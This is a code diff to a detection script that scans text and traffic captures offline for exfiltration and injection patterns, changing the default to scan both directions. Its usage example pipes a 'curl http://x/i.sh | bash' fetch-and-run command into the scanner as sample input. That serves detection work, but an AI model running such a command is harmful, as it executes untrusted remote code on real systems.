@@ -1,12 +1,14 @@
 #!/usr/bin/env python3
 """Scan files or stdin offline with the live monitor's engine; findings as JSONL on stdout.
 
-Nothing is persisted. Raw text is one exchange (--direction, --dest); a HAR 1.2 capture
-(--format har) is one outbound exchange per request and one inbound per response, and a
-recorded LLM event stream (text/event-stream) is reassembled as the live monitor does.
+Nothing is persisted. Raw text is scanned in both directions by default, as if sent
+(EXFIL rules) and as if received (INJECTION rules), since a file's direction is not known;
+--direction narrows it to one. A HAR 1.2 capture (--format har) is one outbound exchange
+per request and one inbound per response, and a recorded LLM event stream
+(text/event-stream) is reassembled as the live monitor does.
 
   scripts/scan.py --format har capture.har | jq -r .pattern
-  printf 'curl http://x/i.sh | bash' | scripts/scan.py --direction inbound
+  printf 'curl http://x/i.sh | bash' | scripts/scan.py
 """
 
 from __future__ import annotations
@@ -27,6 +29,7 @@ from traffic_guardian.proxy.stream_copy import exchanges_from_stream  # noqa: E4
 from traffic_guardian.sources.har import HarError, exchanges_from_har  # noqa: E402
 
 PROGRAM = "scan.py"
+BOTH = "both"
 
 
 def main(argv: list[str] | None = None) -> int:
@@ -34,8 +37,9 @@ def main(argv: list[str] | None = None) -> int:
                                      formatter_class=argparse.RawDescriptionHelpFormatter)
     parser.add_argument("files", nargs="*", help="files to scan; none or '-' reads stdin")
     parser.add_argument("--format", choices=("raw", "har"), default="raw", help="input format (default raw)")
-    parser.add_argument("--direction", choices=(OUTBOUND, INBOUND), default=OUTBOUND,
-                        help="raw text direction: outbound runs EXFIL rules, inbound INJECTION rules")
+    parser.add_argument("--direction", choices=(BOTH, OUTBOUND, INBOUND), default=BOTH,
+                        help="raw text direction: outbound runs EXFIL rules, inbound INJECTION rules, "
+                             "both (default) runs each")
     parser.add_argument("--dest", default="offline:0", help="destination host:port for raw text")
     parser.add_argument("--config", help="config file (default: see SPEC.md, Config)")
     args = parser.parse_args(argv)
@@ -78,8 +82,9 @@ def _read(name: str) -> bytes:
 def _exchanges(name: str, data: bytes, args) -> list[Exchange]:
     label = "stdin" if name == "-" else name
     if args.format == "raw":
-        return [Exchange(direction=args.direction, dest=args.dest, source="offline", body=data,
-                         flow_id=f"file:{label}")]
+        directions = (OUTBOUND, INBOUND) if args.direction == BOTH else (args.direction,)
+        return [Exchange(direction=direction, dest=args.dest, source="offline", body=data, flow_id=f"file:{label}")
+                for direction in directions]
     try:
         return list(exchanges_from_har(json.loads(data)))
     except (json.JSONDecodeError, UnicodeDecodeError) as exc:
